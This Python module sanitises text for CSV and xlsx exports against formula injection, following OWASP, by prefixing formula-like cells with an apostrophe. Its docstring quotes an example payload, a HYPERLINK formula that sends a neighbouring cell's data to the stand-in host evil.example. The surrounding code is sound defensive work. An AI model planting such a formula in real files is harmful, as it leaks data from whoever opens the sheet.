"""Spreadsheet cells that a spreadsheet will show, never run (CSV/formula injection).

Excel, LibreOffice and Google Sheets treat text that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a
tab or a carriage return, the same) as a formula when a CSV file is opened or an xlsx cell is edited: a name
such as ``=HYPERLINK("https://evil.example?"&A2, "Klicka")`` would send the neighbouring cell's data away.
Following OWASP ("CSV Injection"), text that begins with such a character gets a leading apostrophe, which
spreadsheets read as "this is text". Every xlsx and CSV file the app writes puts each cell through
:func:`safe_cell` (the writers in :mod:`apn.exports.tables` do it for you).

Only text is changed: numbers (``-5``, ``Decimal("-12.50")``), dates and booleans stay what they are, so a
negative amount is still a number in the sheet. Write amounts as numbers, not as preformatted text.
"""

from __future__ import annotations

from typing import Any

#: Characters that start a formula, or make one start: OWASP's list, a line feed, and the fullwidth forms
#: (``＝`` ``＋`` ``－`` ``＠``) that some spreadsheet locales also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (leading spaces do not help)."""
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip(" ").startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """``value`` ready for a spreadsheet cell: formula-like text gets a leading ``'``; anything else as is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value
